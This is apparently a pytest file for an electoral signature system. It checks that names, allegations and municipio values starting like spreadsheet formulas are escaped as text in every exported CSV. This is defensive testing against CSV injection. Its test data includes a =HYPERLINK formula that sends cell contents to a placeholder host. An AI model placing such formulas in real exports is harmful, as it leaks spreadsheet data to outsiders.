"""Every CSV the OPL opens in a spreadsheet (compulsa export, sealed results once opened, the
audiencia's report, the avance) shows text that starts like a formula as text: a name an enrolled
kiosk signed (it can sign any text; a paper cédula's name is typed by hand) or an allegation typed
at the audiencia never runs as a formula (OWASP «CSV injection»: =HYPERLINK, =cmd|…)."""

from __future__ import annotations

import csv
import io
import json

from nacl.public import PrivateKey

from central import audiencia, compulsa, reports, results
from central.receiver.admin import process_envelopes
from central.records import set_status
from kiosk.domain import ManualRecord
from sync.daemon import SyncDaemon
from sync.provision import provision
from tests.central_followup.helpers import app_apoyo, clave

PROCESS = "RM2026OAX"
LINK = '=HYPERLINK("http://muestra.invalid/?d="&A1,"ver")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _formulas(cells: list[str]) -> list[str]:
    return [cell for cell in cells if cell.startswith(FORMULA_START)]


def test_no_exported_cell_runs_as_a_formula(receiver_env, tmp_path) -> None:
    server, receiver, token = receiver_env
    station = provision(tmp_path / "kiosko", server.url, token, municipio="@MUESTRA")  # the kiosk names its municipio
    try:
        _export_all(station, receiver, tmp_path)
    finally:
        station.close()


def hostile_records(station, receiver) -> tuple[str, str, str]:
    """An app apoyo and a paper cédula whose names start like formulas, both set for the compulsa,
    and a third record with an inconsistency (for an audiencia), synced and processed."""
    apoyo = app_apoyo(0)
    apoyo.fields["nombres"]["value"] = LINK
    apoyo.fields["apellido_paterno"]["value"] = "+1+1"
    app_folio = station.save_apoyo(apoyo, "A0001").folio
    paper = station.save_manual(ManualRecord(numero_referencia="C-0001-1", nombres="@SUMA(1)", apellido_paterno="-2+3",
                                             apellido_materno="\t=1", clave_elector=clave(1)), "A0002")
    other = station.save_apoyo(app_apoyo(2), "A0001").folio
    assert SyncDaemon(station).run_once().link_ok and station.vault.pending() == []
    process_envelopes(receiver)
    with receiver.engine.begin() as c:
        for folio in (app_folio, paper):
            set_status(c, folio, "para_compulsa")
        set_status(c, other, "con_inconsistencia", "l) firma distinta")
    return app_folio, paper, other


def hostile_audiencia(receiver, folio: str) -> int:
    """An audiencia held on `folio` whose official, allegation, evidence and reason start like formulas."""
    aid = audiencia.schedule(receiver.engine, PROCESS, 1_800_000_000.0, [audiencia.Official("LIC. ANA MUESTRA", "Titular")],
                             ["C. PEDRO MUESTRA"], notified_at=1_800_000_000.0 - 3 * 86400)
    audiencia.start(receiver.engine, aid)
    audiencia.decide(receiver.engine, aid, folio, official="@LIC. ANA MUESTRA", allegation=LINK, evidence="+copia",
                     new_status="para_compulsa", reason="-firma igual")
    return aid


def _export_all(station, receiver, tmp_path) -> None:
    app_folio, paper, other = hostile_records(station, receiver)
    exported = compulsa.export(receiver, PROCESS, tmp_path / "compulsa")
    cells = _cells(exported.csv_path.read_text(encoding="utf-8"))
    assert _formulas(cells) == []
    assert "'" + LINK in cells and "'@SUMA(1)" in cells, "the text itself is kept, shown as text"

    lines = ["folio,situacion,motivo_baja,entidad,distrito_federal,distrito_local,municipio,seccion",
             f"{app_folio},En Padrón,,20,01,10,=1+2,1001", f"{paper},En Padrón,,20,01,10,067,1002"]
    assert compulsa.import_situacion(receiver.engine, PROCESS, ("\n".join(lines) + "\n").encode()).applied == 2
    opl = PrivateKey.generate()
    sealed = results.seal_results(receiver, PROCESS, opl.public_key, tmp_path / "entrega")
    _header, rows = results.open_results(sealed.path.read_bytes(), receiver.keys.authority.verify_key, opl,
                                         json.loads(sealed.manifest_path.read_text()))
    cells = [cell for row in rows for cell in row.values()]
    assert len(rows) == 2 and _formulas(cells) == []
    assert "'=1+2" in cells

    aid = hostile_audiencia(receiver, other)
    cells = _cells(audiencia.report_csv(receiver.engine, aid))
    assert _formulas(cells) == [] and "'" + LINK in cells

    cells = _cells(reports.to_csv(reports.avance(receiver.engine, PROCESS)))
    assert _formulas(cells) == [] and "'@MUESTRA" in cells
